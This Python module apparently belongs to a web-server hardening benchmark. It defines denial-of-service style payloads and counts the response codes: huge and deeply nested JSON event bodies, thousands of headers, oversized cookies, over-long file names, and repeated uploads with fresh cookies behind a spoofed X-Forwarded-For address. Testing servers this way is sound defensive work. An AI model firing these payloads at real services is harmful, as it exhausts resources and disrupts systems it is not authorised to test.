"""Attacks with requests that are made to be slow to read. Each returns how often each status was answered."""

from collections import Counter
from collections.abc import Callable, Mapping, Sequence
from itertools import cycle
from time import monotonic

import httpx

from bench.attack.client import API, MB, Client

SECONDS = 20.0
TIMES = 100
JOIN = f"{API}queue/join"
BODIES = {
    "4 MB of empty lists": b"[" + b"[]," * (4 * MB // 3),
    "0.9 MB of empty lists": b"[" + b"[]," * (MB * 3 // 10),
    "0.9 MB of long numbers": b'{"data":[' + (b"1" * 4000 + b",") * 220 + b"1]}",
    "0.9 MB of escapes": b'{"data":["' + b"\\u0000" * 150_000 + b'"]}',
    "0.9 MB of nested objects": b'{"a":' * 180_000,
}
"""Bodies of events. Each was parsed on the event loop, and refused without being counted."""


def events(url: str, body: bytes) -> dict[str, int]:
    """Send this body as an event again and again."""
    return _repeat(url, lambda client: client.http.post(JOIN, content=body))


def newcomers(url: str, path: str, body: bytes) -> dict[str, int]:
    """Send a body again and again, each time with a new cookie from one address behind a proxy."""

    def ask(client: Client) -> httpx.Response:
        client.http.cookies.clear()
        client.http.get("/config")
        return client.http.post(path, content=body)

    return _repeat(url, ask, address="192.0.2.7")


def long_names(url: str, names: Sequence[str]) -> dict[str, int]:
    """Ask for files with names that no file can have."""
    found = Counter[str]()
    with Client(url) as client:
        for folder in ("/static/", "/assets/", "/svelte/", "/media/", f"{API}file="):
            found.update(str(client.http.get(folder + name).status_code) for name in names)
    return dict(found)


def long_heads(url: str, headers: Mapping[str, str], paths: Sequence[str] = ("/", "/conversations")) -> dict[str, int]:
    """Ask again and again with these headers, besides the cookie."""
    at = cycle(paths)

    def ask(client: Client) -> httpx.Response:
        cookie = "; ".join(f"{name}={value}" for name, value in client.http.cookies.items())
        return client.http.get(next(at), headers={**headers, "cookie": cookie + headers.get("cookie", "")})

    return _repeat(url, ask)


def _repeat(url: str, ask: Callable[[Client], httpx.Response], address: str = "") -> dict[str, int]:
    found, until = Counter[str](), monotonic() + SECONDS
    with Client(url, x_forwarded_for=address) as client:
        for _ in range(TIMES):
            if monotonic() > until:
                break
            try:
                found[str(ask(client).status_code)] += 1
            except httpx.TransportError as error:  # refused before the whole body was sent
                found[type(error).__name__] += 1
    return dict(found)


ATTACKS: dict[str, Callable[[str], object]] = {
    **{f"an event of {name}": lambda url, body=body: events(url, body) for name, body in BODIES.items()},
    "requests of 6,000 headers": lambda url: long_heads(url, {f"x{number}": "a" for number in range(6_000)}),
    "cookies without names": lambda url: long_heads(url, {"cookie": ";" * 58_000}),
    "imports with new cookies": lambda url: newcomers(url, "/import", b"[" * MB),
    "uploads with new cookies": lambda url: newcomers(url, f"{API}upload", b"x" * MB),
    "names of more than 255 bytes": lambda url: long_names(url, ["x" * 256, "x" * 300 + ".js", "x/" * 3000]),
}
